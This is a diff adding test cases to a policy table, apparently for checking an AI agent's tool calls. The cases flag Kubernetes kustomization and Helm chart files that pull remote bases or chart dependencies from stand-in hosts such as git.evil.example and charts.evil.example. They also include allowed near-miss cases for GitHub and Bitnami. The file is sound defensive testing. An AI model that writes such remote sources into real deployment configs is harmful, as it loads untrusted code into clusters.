@@ -86,4 +86,36 @@ policyTable('container-image-source', [
     spec: { tool: 'mcp__kubernetes__apply', input: { url: 'https://raw.evil.example/x.yaml' } },
     expect: 'ask',
   },
+  {
+    note: 'a kustomization with a remote base on an unknown host',
+    spec: write(
+      'deploy/kustomization.yaml',
+      'resources:\n  - ../base\n  - https://git.evil.example/ops/addons.git//mon?ref=main\n',
+    ),
+    expect: 'ask',
+  },
+  {
+    note: 'near miss: a remote base on GitHub',
+    spec: write(
+      'deploy/kustomization.yaml',
+      'resources:\n  - https://github.com/kubernetes-sigs/metrics-server//manifests?ref=v0.7.1\n',
+    ),
+    expect: null,
+  },
+  {
+    note: "a chart's dependency from an unknown repository",
+    spec: write(
+      'chart/Chart.yaml',
+      'dependencies:\n  - name: redis\n    repository: https://charts.evil.example/stable\n',
+    ),
+    expect: 'ask',
+  },
+  {
+    note: "near miss: a chart's dependency from Bitnami",
+    spec: write(
+      'chart/Chart.yaml',
+      'dependencies:\n  - name: redis\n    repository: https://charts.bitnami.com/bitnami\n',
+    ),
+    expect: null,
+  },
 ]);
